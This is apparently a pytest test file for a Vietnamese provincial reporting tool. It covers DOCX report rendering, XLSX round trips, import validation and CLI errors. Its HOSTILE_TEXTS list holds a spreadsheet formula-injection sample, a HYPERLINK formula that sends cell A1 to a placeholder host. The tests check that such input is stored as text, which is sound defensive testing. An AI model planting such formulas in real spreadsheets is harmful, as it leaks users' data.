"""The compiled report for seed 001's plan with 2024's progress filled in: the DOCX read back with python-docx,
the XLSX round trip (export → import → export identical), and the CLI's ``report`` and ``import``."""

from __future__ import annotations

import io
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from docx import Document as Docx
from openpyxl import load_workbook

from hoptac.cli import main
from hoptac.cycle.docx_report import date_line, render_docx
from hoptac.cycle.models import CompiledReport
from hoptac.cycle.report import open_report
from hoptac.cycle.xlsx import export_xlsx, import_xlsx
from hoptac.errors import HoptacError
from hoptac.records.models import Occurrence, ProgressReport, Task
from tests.cycle.conftest import World, gold


def _text(doc: Any) -> str:
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        for cell in table._cells:
            parts += [p.text for p in cell.paragraphs]
    return "\n".join(parts)


def _values(data: bytes) -> dict[str, list[tuple[Any, ...]]]:
    wb = load_workbook(io.BytesIO(data))
    return {ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}


def test_docx_report_of_seed_001(progress: World) -> None:
    world = progress
    report = open_report(world.bg, 2024, world.doc.plan)
    doc = Docx(io.BytesIO(render_docx(report)))
    section = doc.sections[0]
    mm = [round(x.mm) for x in (section.page_width, section.page_height)]
    assert mm == [210, 297]
    margins = (section.top_margin, section.bottom_margin, section.left_margin, section.right_margin)
    assert [round(x.mm) for x in margins] == [20, 20, 30, 15]
    header = doc.tables[0]
    left = [p.text for p in header.cell(0, 0).paragraphs if p.text]
    right = [p.text for p in header.cell(0, 1).paragraphs if p.text]
    assert left == ["ỦY BAN NHÂN DÂN", "TỈNH BẮC GIANG", "Số:       /BC-UBND"]
    assert right == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Bắc Giang, ngày      tháng      năm 2024",
    ]
    assert all(r.bold for p in header.cell(0, 1).paragraphs[:2] for r in p.runs)
    text = _text(doc)
    assert unicodedata.is_normalized("NFC", text)
    assert "BÁO CÁO\nKết quả thực hiện năm 2024 Kế hoạch thực hiện Thỏa thuận hợp tác giữa UBND tỉnh Bắc Giang" in text
    for task in gold("001_f97b477c60d4a584")["tasks"]:
        assert task["title"].rstrip(". ") in text, task["ref"]
        assert f"(mục {task['ref']} của Kế hoạch)" in text
        for name in task["lead"]:
            assert name in text
    # the plan's sections head the groups; each task line names its lead agency and status
    assert "1. Tuyên truyền, giáo dục về quan hệ hữu nghị vĩ đại" in text
    assert "6. Hợp tác về y tế" in text
    assert "Cơ quan chủ trì: Sở Y tế. Tình trạng: " in text
    assert "Sở Nông nghiệp và Phát triển nông thôn đã triển khai nhiệm vụ II.3.1 năm 2024" in text
    assert "- Đài Phát thanh và Truyền hình tỉnh: Đài Phát thanh và Truyền hình tỉnh đã triển khai" in text
    assert "II. KHÓ KHĂN, VƯỚNG MẮC\n- Sở Ngoại vụ: Lịch làm việc của đoàn tỉnh bạn thay đổi nhiều lần." in text
    assert "- Sở Y tế: Bố trí kinh phí phiên dịch năm 2025." in text
    signature = doc.tables[-1]
    assert [p.text for p in signature.cell(0, 0).paragraphs] == [
        "Nơi nhận:",
        "- Bộ Ngoại giao;",
        "- Thường trực Tỉnh ủy;",
        "- Lưu: VT.",
    ]
    sign = [p.text for p in signature.cell(0, 1).paragraphs if p.text]
    assert sign == ["TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH", "Mai Sơn"]
    fonts = {r.font.name for p in doc.paragraphs for r in p.runs if r.text.strip()}
    assert fonts == {"Times New Roman"}
    sizes = {r.font.size.pt for p in doc.paragraphs for r in p.runs if r.text.strip()}
    assert sizes == {14.0}


def test_date_line_pads_day_and_early_months() -> None:
    from datetime import date

    assert date_line("Bắc Giang", date(2024, 2, 5), 2024) == "Bắc Giang, ngày 05 tháng 02 năm 2024"
    assert date_line("Bắc Giang", date(2024, 11, 15), 2024) == "Bắc Giang, ngày 15 tháng 11 năm 2024"


def test_edited_header_and_partner_report(progress: World) -> None:
    world = progress
    report = open_report(world.bg, 2024, world.doc.plan)
    report.number, report.date = "215", __import__("datetime").date(2024, 11, 14)
    report.save()
    doc = Docx(io.BytesIO(render_docx(report)))
    assert "Số: 215/BC-UBND" in _text(doc) and "Bắc Giang, ngày 14 tháng 11 năm 2024" in _text(doc)
    partner = world.doc.plan.partners.get(country="LA")
    by_partner = open_report(world.bg, 2024, partner=partner)
    assert by_partner.pk != report.pk
    text = _text(Docx(io.BytesIO(render_docx(by_partner))))
    assert "các kế hoạch hợp tác với tỉnh Xay Sôm Bun" in text and "Kế hoạch: Thực hiện Thỏa thuận" in text


def test_xlsx_round_trip_is_identical(progress: World) -> None:
    world = progress
    report = open_report(world.bg, 2024, world.doc.plan)
    first = export_xlsx(report)
    sheets = _values(first)
    head = sheets["Nhiệm vụ"][0]
    assert head[:4] == ("STT", "Mục", "Nhiệm vụ", "Cơ quan chủ trì") and "Nội dung báo cáo" in head
    rows = sheets["Nhiệm vụ"][1:]
    assert {r[1] for r in rows} == {t["ref"] for t in gold("001_f97b477c60d4a584")["tasks"]}
    assert {r[8] for r in rows} <= {"Chưa thực hiện", "Đang thực hiện", "Hoàn thành", "Hủy"}
    before = (ProgressReport.objects.count(), list(Occurrence.objects.values_list("pk", "status", "percent")))
    result = import_xlsx(first, "bang.xlsx", world.bg)
    assert (result.texts, result.statuses) == (0, 0)
    assert before == (ProgressReport.objects.count(), list(Occurrence.objects.values_list("pk", "status", "percent")))
    assert _values(export_xlsx(report)) == sheets


HOSTILE_TEXTS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "=> Đã tổ chức đoàn công tác sang tỉnh bạn.",
    "+84 912 345 678: đầu mối liên hệ.",
    "-  Đã ký biên bản ghi nhớ.\r\n-  Đã trao đổi đoàn.",
    "@Sở Y tế: phối hợp.",
)


def test_xlsx_keeps_user_text_as_text_and_round_trips(progress: World) -> None:
    """Texts that look like formulas are written as text cells, and an unedited export imports as no change."""
    world = progress
    report = open_report(world.bg, 2024, world.doc.plan)
    reports = list(ProgressReport.objects.filter(occurrence__task__plan=world.doc.plan).order_by("id"))
    for text, r in zip(HOSTILE_TEXTS, reports, strict=False):
        r.text = text
        r.save(update_fields=["text"])
    report.title = "=1+1 báo cáo"
    report.save(update_fields=["title"])
    first = export_xlsx(report)
    wb = load_workbook(io.BytesIO(first))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for text in HOSTILE_TEXTS:
        assert text in texts
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))
    before = ProgressReport.objects.count()
    result = import_xlsx(first, "bang.xlsx", world.bg)
    assert (result.texts, result.statuses) == (0, 0) and ProgressReport.objects.count() == before
    assert _values(export_xlsx(report)) == _values(first)


def test_xlsx_edits_come_back_exactly(progress: World) -> None:
    world = progress
    report = open_report(world.bg, 2024, world.doc.plan)
    wb = load_workbook(io.BytesIO(export_xlsx(report)))
    ws = wb["Nhiệm vụ"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[1].value == "II.6.1")
    row[8].value, row[9].value = "Hoàn thành", 100
    row[10].value = "Đã đào tạo 15 nhân viên y tế tỉnh Xay Sôm Bun (bổ sung: Sở Y tế).\nKết thúc tháng 9/2024."
    out = io.BytesIO()
    wb.save(out)
    edited = out.getvalue()
    result = import_xlsx(edited, "bang.xlsx", world.bg)
    assert (result.texts, result.statuses) == (1, 1)
    occ = Occurrence.objects.get(task__ref="II.6.1", task__plan=world.doc.plan, year=2024)
    assert (occ.status, occ.percent) == ("done", 100)
    assert occ.reports.order_by("-id").first().agency == world.soyte
    assert _values(export_xlsx(report)) == _values(edited)


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        ((8, "Xong"), "tình trạng 'Xong' không hợp lệ"),
        ((9, 150), "tiến độ 150 phải là số từ 0 đến 100"),
        ((11, 999999), "mã nhiệm vụ 999999"),
        ((10, ""), "không xóa được nội dung"),
        ((10, "x" * 20_001), "nội dung báo cáo quá dài (tối đa 20000 ký tự, đang có 20001)"),
    ],
)
def test_bad_xlsx_changes_nothing(progress: World, edit: tuple[int, Any], message: str) -> None:
    world = progress
    report = open_report(world.bg, 2024, world.doc.plan)
    wb = load_workbook(io.BytesIO(export_xlsx(report)))
    ws = wb["Nhiệm vụ"]
    good = next(r for r in ws.iter_rows(min_row=2) if r[1].value == "II.1.1")
    good[10].value = "Nội dung mới hợp lệ."
    bad = next(r for r in ws.iter_rows(min_row=2) if r[1].value == "II.6.1")
    bad[edit[0]].value = edit[1]
    out = io.BytesIO()
    wb.save(out)
    before = ProgressReport.objects.count()
    with pytest.raises(HoptacError) as exc:
        import_xlsx(out.getvalue(), "bang.xlsx", world.bg)
    assert message in str(exc.value) and "Không có thay đổi nào được lưu" in str(exc.value)
    assert ProgressReport.objects.count() == before


def test_xlsx_of_another_office_or_not_xlsx(progress: World) -> None:
    world = progress
    data = export_xlsx(open_report(world.bg, 2024, world.doc.plan))
    with pytest.raises(HoptacError, match="không phải 'ha-giang'"):
        import_xlsx(data, "bang.xlsx", world.hg)
    with pytest.raises(HoptacError, match="không phải tệp Excel"):
        import_xlsx(b"PK\x03\x04 not really", "bang.xlsx", world.bg)


def test_cli_report_and_import(progress: World, tmp_path: Path, capsys: Any) -> None:
    world = progress
    plan = world.doc.plan.pk
    docx = tmp_path / "bao-cao.docx"
    assert main(["report", "--year", "2024", "--plan", str(plan), "--format", "docx", "-o", str(docx)]) == 0
    assert "TỈNH BẮC GIANG" in _text(Docx(docx))
    xlsx = tmp_path / "bang.xlsx"
    assert main(["report", "--year", "2024", "--plan", str(plan), "-o", str(xlsx)]) == 0
    assert main(["import", str(xlsx), "--office", "bac-giang"]) == 0
    assert "0 nội dung báo cáo mới, 0 thay đổi" in capsys.readouterr().out
    again = tmp_path / "bang2.xlsx"
    assert main(["report", "--year", "2024", "--plan", str(plan), "-o", str(again)]) == 0
    assert _values(again.read_bytes()) == _values(xlsx.read_bytes())
    assert CompiledReport.objects.filter(plan_id=plan, year=2024).count() == 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["report", "--year", "2024", "--plan", "999999", "-o", "x.docx"], "không có kế hoạch 999999"),
        (["report", "--year", "2024", "--plan", "PLAN", "-o", "x.odt"], "không biết định dạng"),
        (["report", "--year", "1850", "--plan", "PLAN", "-o", "x.docx"], "năm không hợp lệ"),
        (["report", "--year", "2030", "--office", "bac-giang", "-o", "x.docx"], "không có kế hoạch nào"),
        (["import", "missing.xlsx", "--office", "bac-giang"], "không tìm thấy tệp"),
        (["import", "PLAIN", "--office", "bac-giang"], "không phải tệp Excel"),
    ],
)
def test_cli_errors_are_one_line(progress: World, tmp_path: Path, capsys: Any, args: list[str], message: str) -> None:
    plain = tmp_path / "plain.xlsx"
    plain.write_text("không phải Excel", encoding="utf-8")
    args = [a.replace("PLAN", str(progress.doc.plan.pk)).replace("PLAIN", str(plain)) for a in args]
    args = [str(tmp_path / a) if a.startswith(("x.", "missing")) else a for a in args]
    try:
        code = main(args)
    except SystemExit as exc:  # argparse's own checks
        code = int(exc.code or 0)
    err = capsys.readouterr().err
    assert code == 2 and message in err and "Traceback" not in err, err
    assert err.strip().splitlines()[-1].startswith("hoptac") and message in err.strip().splitlines()[-1]
    assert Task.objects.filter(status="done").count() == 0  # nothing changed
